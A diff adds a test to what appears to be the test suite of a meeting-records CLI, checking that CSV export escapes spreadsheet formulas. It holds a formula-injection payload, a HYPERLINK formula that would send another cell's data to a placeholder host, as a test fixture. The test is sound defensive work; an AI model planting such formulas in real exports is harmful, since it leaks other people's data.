@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import sqlite3
@@ -396,3 +398,37 @@ def test_export_records_file_is_for_its_owner_only(held):
     finally:
         os.umask(old)
     assert stat.S_IMODE((held.dir / "records.json").stat().st_mode) == 0o600
+
+
+def test_export_records_csv_never_starts_a_cell_with_a_formula(ready):
+    """A summary is typed by one participant and exported by the other: in the CSV a text that
+    starts like a spreadsheet formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return)
+    starts with a ``'`` instead, so opening the file never runs what someone else wrote (a
+    ``=HYPERLINK(...)`` that sends the other rows away). The JSON keeps the text as written."""
+    plan = data(
+        ready.run("plan", "--from", "2025-01-01", "--to", "2026-01-01", "--request", "--json")
+    )
+    conv = {r["person"]: r["conversation"] for r in plan["requested"]}["e1"]
+    formula = '=HYPERLINK("https://example.invalid/?"&F3,"open")'
+    result = ready.run(
+        "record",
+        conv,
+        "--as",
+        "e1",
+        "--held-on",
+        "2025-03-01",
+        "--summary",
+        formula,
+        "--agreement",
+        "employee: @SUM(1+1)",
+    )
+    assert result.exit_code == 0, result.output
+    text = ready.run("export", "records", "--as", "m1", "--format", "csv").stdout
+    rows = list(csv.DictReader(io.StringIO(text)))
+    [row] = [r for r in rows if r["id"] == conv]
+    assert row["summary"] == "'" + formula
+    for row in rows:
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r", row
+    records = json.loads(ready.run("export", "records", "--as", "m1").stdout)
+    assert [r["summary"] for r in records if r["id"] == conv] == [formula]
